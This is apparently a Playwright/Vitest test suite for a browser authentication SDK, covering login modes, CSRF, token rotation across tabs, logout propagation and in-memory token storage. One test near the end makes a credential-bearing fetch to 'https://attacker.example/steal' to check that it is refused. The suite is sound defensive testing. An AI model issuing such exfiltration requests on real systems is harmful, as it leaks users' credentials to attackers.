import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { PASSWORD } from '../helpers/app.js';
import { launchChromium } from '../helpers/chromium.js';
import { startSDKServer, type SDKServer } from '../helpers/sdk-server.js';

/** What the tests use of `latchkey/browser` inside a page (the page has the DOM, not this file). */
interface PageClient {
  ready: Promise<unknown>;
  state: {
    status: string;
    mode: string;
    user: { email: string } | null;
    version: number;
    tab: { leader: boolean };
    sync: { locks: boolean; channel: string };
    accessToken: { storage: string; expiresAt: number; claims: Record<string, unknown> | null } | null;
    refreshes: { performed: number; adopted: number };
  };
  signup(input: { email: string; password: string }): Promise<{ email: string }>;
  login(input: { email: string; password: string }): Promise<unknown>;
  logout(): Promise<void>;
  logoutEverywhere(): Promise<number>;
  me(): Promise<{ user: { email: string }; session: { mode: string } }>;
  sessions(): Promise<{ current: boolean; mode: string }[]>;
  fetch(input: string, init?: unknown): Promise<{ status: number; json(): Promise<unknown> }>;
  onChange(listener: (state: PageClient['state'], reason: string) => void): () => void;
}

/** The few DOM globals the page functions touch (this file is type-checked for Node). */
interface PageDOM {
  document: { cookie: string };
  localStorage: Record<string, string>;
  sessionStorage: Record<string, string>;
  Storage: { prototype: { setItem: (this: unknown, key: string, value: string) => void } };
}

interface PageWindow {
  latchkey: { createClient(options: { mode: string }): PageClient; LatchkeyClientError: new () => Error };
  client: PageClient;
  events: { reason: string; status: string; at: number }[];
  failures: string[];
  polling: boolean;
}

const ACCESS_TOKEN_TTL = 3_000;

let server: SDKServer;
let browser: Browser;
const consoleErrors: string[] = [];

beforeAll(async () => {
  server = await startSDKServer({ accessTokenTTL: ACCESS_TOKEN_TTL });
  browser = await launchChromium();
}, 60_000);
afterAll(async () => {
  await browser.close();
  await server.close();
});

const newEmail = (): string => `sdk-${randomUUID()}@example.com`;

async function openTab(context: BrowserContext, mode: 'hybrid' | 'token'): Promise<Page> {
  const page = await context.newPage();
  page.on('console', (message) => {
    if (message.type() === 'error') consoleErrors.push(message.text());
  });
  page.on('pageerror', (error) => consoleErrors.push(error.message));
  await page.goto(`${server.url}/test/page`);
  await page.waitForFunction(() => 'latchkey' in globalThis);
  await page.evaluate(async (clientMode) => {
    const w = globalThis as unknown as PageWindow;
    w.events = [];
    w.failures = [];
    w.client = w.latchkey.createClient({ mode: clientMode });
    w.client.onChange((state, reason) => w.events.push({ reason, status: state.status, at: Date.now() }));
    await w.client.ready;
  }, mode);
  return page;
}

/** Signs up and in from `page`; answers the email. */
async function signIn(page: Page): Promise<string> {
  const email = newEmail();
  await page.evaluate(
    async ({ email: address, password }) => {
      const { client } = globalThis as unknown as PageWindow;
      await client.signup({ email: address, password });
      await client.login({ email: address, password });
    },
    { email, password: PASSWORD },
  );
  return email;
}

const stateOf = (page: Page): Promise<PageClient['state']> =>
  page.evaluate(() => (globalThis as unknown as PageWindow).client.state);

/** The refusal of `me()` as seen in the page: a typed error with its code and status. */
const meRefusal = (page: Page): Promise<{ typed: boolean; code: unknown; status: unknown } | null> =>
  page.evaluate(async () => {
    const w = globalThis as unknown as PageWindow;
    try {
      await w.client.me();
      return null;
    } catch (error) {
      const { code, status } = error as { code: unknown; status: unknown };
      return { typed: error instanceof w.latchkey.LatchkeyClientError, code, status };
    }
  });

/** Console errors other than the 401s and the 403 (no CSRF header) the tests provoke on purpose. */
const unexpectedConsoleErrors = (): string[] =>
  consoleErrors.filter((text) => !/status of (401 \(Unauthorized\)|403 \(Forbidden\))/.test(text));

describe('GET /sdk/latchkey-browser.js', () => {
  it('serves the built ES module with its content type, nosniff, an ETag and a long cache', async () => {
    const response = await fetch(`${server.url}/sdk/latchkey-browser.js`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('cache-control')).toBe('public, max-age=86400');
    const etag = response.headers.get('etag') ?? '';
    expect(etag).toMatch(/^"[A-Za-z0-9_-]{22}"$/);
    const body = await response.text();
    expect(body).toContain('createClient');
    expect(body).toMatch(/export\s*\{/);

    const again = await fetch(`${server.url}/sdk/latchkey-browser.js`, {
      headers: { 'if-none-match': etag },
    });
    expect(again.status).toBe(304);
    const pinned = await fetch(`${server.url}/sdk/latchkey-browser.js?v=${etag.slice(1, -1)}`);
    expect(pinned.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    const stale = await fetch(`${server.url}/sdk/latchkey-browser.js?v=not-the-hash`);
    expect(stale.headers.get('cache-control')).toBe('public, max-age=86400');
  });
});

describe('latchkey/browser in a real Chromium, against a real server', () => {
  it('hybrid: signs up, logs in, reads me and sessions, authenticates fetch, logs out', async () => {
    const context = await browser.newContext();
    const page = await openTab(context, 'hybrid');
    expect((await stateOf(page)).status).toBe('signed-out');
    const email = await signIn(page);
    const state = await stateOf(page);
    expect(state).toMatchObject({ status: 'signed-in', mode: 'hybrid', user: { email } });
    expect(state.accessToken).toMatchObject({ storage: 'httponly-cookie', claims: null });
    const seen = await page.evaluate(async () => {
      const { client } = globalThis as unknown as PageWindow;
      const me = await client.me();
      const sessions = await client.sessions();
      // An unsafe request needs the CSRF header, which client.fetch adds.
      const unsafe = await client.fetch('/v1/sessions?keep_current=true', { method: 'DELETE' });
      const plain = await fetch('/v1/sessions?keep_current=true', { method: 'DELETE' });
      const { document } = globalThis as unknown as PageDOM;
      return { me, sessions, unsafe: unsafe.status, plain: plain.status, cookies: document.cookie };
    });
    expect(seen.me).toMatchObject({ user: { email }, session: { mode: 'hybrid' } });
    expect(seen.sessions).toEqual([expect.objectContaining({ current: true, mode: 'hybrid' })]);
    expect(seen.unsafe).toBe(200);
    expect(seen.plain).toBe(403);
    expect(seen.cookies).toBe(''); // HttpOnly: JavaScript sees none of them
    await page.evaluate(() => (globalThis as unknown as PageWindow).client.logout());
    expect((await stateOf(page)).status).toBe('signed-out');
    expect(await meRefusal(page)).toEqual({ typed: true, code: 'unauthenticated', status: 401 });
    await context.close();
  });

  it('onRequest sees each request as sent and its response; an observer that throws breaks nothing', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${server.url}/test/page`);
    await page.waitForFunction(() => 'latchkey' in globalThis);
    const email = newEmail();
    const seen = await page.evaluate(
      async ({ address, password }) => {
        type Observed = (request: Request, response: Response) => void;
        const w = globalThis as unknown as {
          latchkey: { createClient(options: { mode: string; onRequest: Observed }): PageClient };
        };
        const log: string[] = [];
        const client = w.latchkey.createClient({
          mode: 'token',
          onRequest: (request, response) => {
            const bearer = request.headers.get('authorization')?.startsWith('Bearer ') === true;
            log.push(`${request.method} ${new URL(request.url).pathname} ${response.status} ${bearer}`);
            throw new Error('observer failure');
          },
        });
        await client.signup({ email: address, password });
        await client.login({ email: address, password });
        const me = await client.me();
        return { log, email: me.user.email };
      },
      { address: email, password: PASSWORD },
    );
    expect(seen).toEqual({
      email,
      log: ['POST /v1/signup 201 false', 'POST /v1/login 200 false', 'GET /v1/me 200 true'],
    });
    await context.close();
  });

  it('token mode: logs in, authenticates fetch with the Bearer token, logs out', async () => {
    const context = await browser.newContext();
    const page = await openTab(context, 'token');
    const email = await signIn(page);
    const state = await stateOf(page);
    expect(state).toMatchObject({ status: 'signed-in', mode: 'token', user: { email } });
    expect(state.accessToken?.storage).toBe('memory');
    expect(state.accessToken?.claims).toMatchObject({ iss: server.url });
    const seen = await page.evaluate(async () => {
      const { client } = globalThis as unknown as PageWindow;
      const response = await client.fetch('/v1/me');
      const plain = await fetch('/v1/me');
      return { status: response.status, body: await response.json(), plain: plain.status };
    });
    expect(seen).toMatchObject({ status: 200, body: { session: { mode: 'token' } }, plain: 401 });
    await page.evaluate(() => (globalThis as unknown as PageWindow).client.logout());
    expect((await stateOf(page)).status).toBe('signed-out');
    expect(await meRefusal(page)).toEqual({ typed: true, code: 'unauthenticated', status: 401 });
    await context.close();
  });
});

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** Every tab calls `me()` every 200 ms until told to stop; refusals are kept in `failures`. */
async function startPolling(tabs: Page[]): Promise<void> {
  await Promise.all(
    tabs.map((page) =>
      page.evaluate(() => {
        const w = globalThis as unknown as PageWindow;
        w.polling = true;
        const loop = async (): Promise<void> => {
          while (w.polling) {
            try {
              await w.client.me();
            } catch (error) {
              w.failures.push(String((error as { code?: unknown }).code));
            }
            await new Promise((resolve) => setTimeout(resolve, 200));
          }
        };
        void loop();
      }),
    ),
  );
}

async function stopPolling(tabs: Page[]): Promise<string[]> {
  const failures = await Promise.all(
    tabs.map((page) =>
      page.evaluate(() => {
        const w = globalThis as unknown as PageWindow;
        w.polling = false;
        return w.failures;
      }),
    ),
  );
  await sleep(300);
  return failures.flat();
}

/** The gaps between rotations (ms): a second rotation in one cycle would come milliseconds after the first. */
const gaps = (times: number[]): number[] => times.slice(1).map((time, i) => time - (times[i] ?? 0));

const waitSignedIn = (page: Page): Promise<unknown> =>
  page.waitForFunction(
    () => (globalThis as unknown as PageWindow).client.state.status === 'signed-in',
    undefined,
    {
      timeout: 5_000,
    },
  );

describe('many tabs of one origin', () => {
  it('8 hybrid tabs stay signed in across refresh cycles, one rotation per cycle, and sign out together', async () => {
    const context = await browser.newContext();
    const tabs: Page[] = [];
    for (let i = 0; i < 8; i += 1) tabs.push(await openTab(context, 'hybrid'));
    const [first] = tabs;
    if (first === undefined) throw new Error('no tab');
    // A login in one tab is seen by the other seven.
    const email = await signIn(first);
    await Promise.all(tabs.map(waitSignedIn));
    for (const tab of tabs) expect((await stateOf(tab)).user?.email).toBe(email);
    const leaders = (await Promise.all(tabs.map(stateOf))).filter((state) => state.tab.leader);
    expect(leaders).toHaveLength(1);

    const errorsBefore = consoleErrors.length;
    const rotationsBefore = server.rotations.length;
    const started = Date.now();
    await startPolling(tabs);
    await sleep(12_000);
    const failures = await stopPolling(tabs);
    const elapsed = Date.now() - started;
    const rotations = server.rotations.slice(rotationsBefore);
    const states = await Promise.all(tabs.map(stateOf));
    const performed = states.reduce((sum, state) => sum + state.refreshes.performed, 0);
    const figures = {
      tabs: tabs.length,
      seconds: elapsed / 1000,
      rotations: rotations.length,
      performedByTabs: performed,
      minGapMs: Math.min(...gaps(rotations)),
      failures: failures.length,
      reuse: server.reuseEvents().length,
    };
    console.log('8-tab hybrid run:', JSON.stringify(figures));
    // The token lives 3 s (2 s by the client's reckoning): a refresh every second or so. Two
    // rotations in one cycle would come milliseconds apart.
    expect(rotations.length).toBeGreaterThanOrEqual(8);
    expect(figures.minGapMs).toBeGreaterThan(500);
    expect(performed).toBe(rotations.length);
    expect(failures).toEqual([]);
    expect(server.reuseEvents()).toEqual([]);
    expect(consoleErrors.slice(errorsBefore)).toEqual([]);
    for (const state of states) expect(state.status).toBe('signed-in');

    // Logout in one tab signs out the other seven within a second.
    const loggedOutAt = await first.evaluate(async () => {
      const at = Date.now();
      await (globalThis as unknown as PageWindow).client.logout();
      return at;
    });
    await sleep(1_000);
    const delays = await Promise.all(
      tabs.slice(1).map((page) =>
        page.evaluate(() => {
          const w = globalThis as unknown as PageWindow;
          const event = w.events.find((e) => e.reason === 'other-tab-logout');
          return event === undefined ? null : event.at;
        }),
      ),
    );
    const lags = delays.map((at) => (at === null ? Infinity : at - loggedOutAt));
    console.log('logout propagation (ms from the click):', JSON.stringify(lags));
    for (const lag of lags) expect(lag).toBeLessThan(1_000);
    for (const tab of tabs.slice(1)) {
      expect((await stateOf(tab)).status).toBe('signed-out');
      expect(await meRefusal(tab)).toMatchObject({ typed: true, status: 401 });
    }
    expect(server.reuseEvents()).toEqual([]);
    await context.close();
  }, 60_000);

  it('token mode keeps the tokens in memory only: never in localStorage or sessionStorage', async () => {
    const context = await browser.newContext();
    // Every write to Web Storage, whatever the key.
    await context.addInitScript(() => {
      const writes: string[] = [];
      const dom = globalThis as unknown as PageDOM & { storageWrites: string[] };
      dom.storageWrites = writes;
      const setItem = dom.Storage.prototype.setItem;
      dom.Storage.prototype.setItem = function (this: unknown, key: string, value: string) {
        writes.push(`${key}=${value}`);
        setItem.call(this, key, value);
      };
    });
    const tokens: string[] = [];
    context.on('response', (response) => {
      if (!/\/v1\/(login|refresh)$/.test(response.url())) return;
      void response
        .json()
        .then((body: { access_token?: string; refresh_token?: string }) => {
          if (body.access_token !== undefined) tokens.push(body.access_token);
          if (body.refresh_token !== undefined) tokens.push(body.refresh_token);
        })
        .catch(() => undefined);
    });
    const first = await openTab(context, 'token');
    await signIn(first);
    // A tab opened later is handed the session by the first (BroadcastChannel, memory to memory).
    const second = await openTab(context, 'token');
    expect((await stateOf(second)).status).toBe('signed-in');
    const rotationsBefore = server.rotations.length;
    await startPolling([first, second]);
    await sleep(4_500);
    const failures = await stopPolling([first, second]);
    const rotations = server.rotations.slice(rotationsBefore);
    expect(rotations.length).toBeGreaterThanOrEqual(2);
    expect(Math.min(...gaps(rotations))).toBeGreaterThan(500);
    expect(failures).toEqual([]);
    expect(server.reuseEvents()).toEqual([]);
    expect(tokens.length).toBeGreaterThanOrEqual(6);

    for (const page of [first, second]) {
      const kept = await page.evaluate(() => {
        const dom = globalThis as unknown as PageDOM & { storageWrites: string[] };
        const dump = (storage: Record<string, string>): string => JSON.stringify(Object.entries(storage));
        return [
          ...dom.storageWrites,
          dump(dom.localStorage),
          dump(dom.sessionStorage),
          dom.document.cookie,
        ].join('\n');
      });
      for (const token of tokens) expect(kept).not.toContain(token);
      expect(kept).not.toContain('eyJ');
    }

    // The trade-off: a reload keeps the session while another tab holds it; the last tab's does not.
    await first.reload();
    await first.waitForFunction(() => 'latchkey' in globalThis);
    const reloaded = await first.evaluate(async () => {
      const w = globalThis as unknown as PageWindow;
      w.client = w.latchkey.createClient({ mode: 'token' });
      await w.client.ready;
      return w.client.state.status;
    });
    expect(reloaded).toBe('signed-in');
    await second.close();
    await first.reload();
    await first.waitForFunction(() => 'latchkey' in globalThis);
    const alone = await first.evaluate(async () => {
      const w = globalThis as unknown as PageWindow;
      w.client = w.latchkey.createClient({ mode: 'token' });
      await w.client.ready;
      return w.client.state.status;
    });
    expect(alone).toBe('signed-out');
    await context.close();
  }, 60_000);

  it('a new hybrid tab finds the session after a reload (the CSRF token, never a token, kept in localStorage)', async () => {
    const context = await browser.newContext();
    const first = await openTab(context, 'hybrid');
    const email = await signIn(first);
    await first.reload();
    await first.waitForFunction(() => 'latchkey' in globalThis);
    const state = await first.evaluate(async () => {
      const w = globalThis as unknown as PageWindow;
      w.client = w.latchkey.createClient({ mode: 'hybrid' });
      await w.client.ready;
      const { localStorage } = globalThis as unknown as PageDOM;
      return { state: w.client.state, stored: JSON.stringify(Object.entries(localStorage)) };
    });
    expect(state.state).toMatchObject({ status: 'signed-in', user: { email } });
    expect(state.stored).not.toContain('eyJ');
    await context.close();
  });

  it('without BroadcastChannel, the storage event carries login and logout to the other tabs', async () => {
    const context = await browser.newContext();
    await context.addInitScript(() => {
      delete (globalThis as { BroadcastChannel?: unknown }).BroadcastChannel;
    });
    const tabs = [
      await openTab(context, 'hybrid'),
      await openTab(context, 'hybrid'),
      await openTab(context, 'hybrid'),
    ];
    const [first] = tabs;
    if (first === undefined) throw new Error('no tab');
    expect((await stateOf(first)).sync.channel).toBe('storage-event');
    await signIn(first);
    await Promise.all(tabs.map(waitSignedIn));
    const rotationsBefore = server.rotations.length;
    await startPolling(tabs);
    await sleep(3_500);
    expect(await stopPolling(tabs)).toEqual([]);
    const rotations = server.rotations.slice(rotationsBefore);
    expect(rotations.length).toBeGreaterThanOrEqual(2);
    expect(Math.min(...gaps(rotations))).toBeGreaterThan(500);
    await first.evaluate(() => (globalThis as unknown as PageWindow).client.logout());
    await sleep(1_000);
    for (const tab of tabs) expect((await stateOf(tab)).status).toBe('signed-out');
    expect(server.reuseEvents()).toEqual([]);
    await context.close();
  }, 30_000);

  for (const mode of ['hybrid', 'token'] as const) {
    it(`${mode}: 8 tabs asking to refresh at the same instant rotate once, and nothing is taken for reuse`, async () => {
      const context = await browser.newContext();
      const tabs: Page[] = [];
      for (let i = 0; i < 8; i += 1) tabs.push(await openTab(context, mode));
      await signIn(tabs[0] as Page);
      await Promise.all(tabs.map(waitSignedIn));
      for (let round = 0; round < 3; round += 1) {
        const before = server.rotations.length;
        const startAt = Date.now() + 300;
        const results = await Promise.all(
          tabs.map((page) =>
            page.evaluate(async (at) => {
              const { client } = globalThis as unknown as PageWindow & {
                client: { refresh(): Promise<boolean> };
              };
              await new Promise((resolve) => setTimeout(resolve, at - Date.now()));
              return client.refresh();
            }, startAt),
          ),
        );
        expect(results).toEqual(tabs.map(() => true));
        expect(server.rotations.length - before).toBe(1);
      }
      await startPolling(tabs);
      await sleep(1_000);
      expect(await stopPolling(tabs)).toEqual([]);
      expect(server.reuseEvents()).toEqual([]);
      await context.close();
    }, 60_000);
  }

  it('token mode: a refresh whose message is slow to arrive still stops the other tabs (the lock-manager mark)', async () => {
    const context = await browser.newContext();
    // Every BroadcastChannel message reaches its listener 400 ms late.
    await context.addInitScript({
      content: `{
        const Native = globalThis.BroadcastChannel;
        globalThis.BroadcastChannel = class extends Native {
          set onmessage(handler) {
            super.onmessage = (event) => setTimeout(() => handler.call(this, event), 400);
          }
        };
      }`,
    });
    const tabs: Page[] = [];
    for (let i = 0; i < 4; i += 1) tabs.push(await openTab(context, 'token'));
    await signIn(tabs[0] as Page);
    await Promise.all(tabs.map(waitSignedIn));
    const before = server.rotations.length;
    const startAt = Date.now() + 300;
    const results = await Promise.all(
      tabs.map((page) =>
        page.evaluate(async (at) => {
          const { client } = globalThis as unknown as PageWindow & {
            client: { refresh(): Promise<boolean> };
          };
          await new Promise((resolve) => setTimeout(resolve, at - Date.now()));
          return client.refresh();
        }, startAt),
      ),
    );
    expect(results).toEqual(tabs.map(() => true));
    const performed = (await Promise.all(tabs.map(stateOf))).reduce(
      (sum, state) => sum + state.refreshes.performed,
      0,
    );
    expect(performed).toBe(1);
    expect(server.rotations.length - before).toBe(1);
    expect(server.reuseEvents()).toEqual([]);
    await context.close();
  }, 30_000);

  it('logoutEverywhere in another browser signs out every tab here at its next request', async () => {
    const errorsBefore = consoleErrors.length;
    const here = await browser.newContext();
    const tabs = [await openTab(here, 'hybrid'), await openTab(here, 'hybrid')];
    const [first, second] = tabs as [Page, Page];
    const email = await signIn(first);
    await waitSignedIn(second);
    const elsewhere = await browser.newContext();
    const other = await openTab(elsewhere, 'token');
    const revoked = await other.evaluate(
      async ({ address, password }) => {
        const { client } = globalThis as unknown as PageWindow;
        await client.login({ email: address, password });
        return client.logoutEverywhere();
      },
      { address: email, password: PASSWORD },
    );
    expect(revoked).toBe(2);
    expect((await stateOf(other)).status).toBe('signed-out');
    // The leader's next refresh may come first (400 invalid_grant, cookies cleared): either way,
    // the session is gone and both tabs are signed out.
    const refusal = await meRefusal(first);
    expect(refusal).toMatchObject({ typed: true, status: 401 });
    expect(['session_revoked', 'unauthenticated']).toContain(refusal?.code);
    for (const tab of tabs) expect((await stateOf(tab)).status).toBe('signed-out');
    // That refused refresh is the one console error this test may cause.
    const caused = consoleErrors.splice(errorsBefore);
    for (const text of caused) expect(text).toMatch(/status of (400 \(Bad Request\)|401 \(Unauthorized\))/);
    const reasons = await second.evaluate(() =>
      (globalThis as unknown as PageWindow).events.map((e) => e.reason),
    );
    expect(reasons).toContain('other-tab-logout');
    await here.close();
    await elsewhere.close();
  });

  it('fetch() never sends the credentials to another origin', async () => {
    const context = await browser.newContext();
    const page = await openTab(context, 'token');
    await signIn(page);
    const sent: string[] = [];
    context.on('request', (request) => sent.push(request.url()));
    const refusal = await page.evaluate(async () => {
      const { client } = globalThis as unknown as PageWindow;
      try {
        await client.fetch('https://attacker.example/steal');
        return null;
      } catch (error) {
        return String(error);
      }
    });
    expect(refusal).toMatch(
      /^TypeError: fetch\(\) authenticates requests to http:\/\/127\.0\.0\.1:\d+ only$/,
    );
    expect(sent.filter((url) => url.includes('attacker'))).toEqual([]);
    await context.close();
  });

  it('logs no console error in any page', () => {
    expect(unexpectedConsoleErrors()).toEqual([]);
  });
});
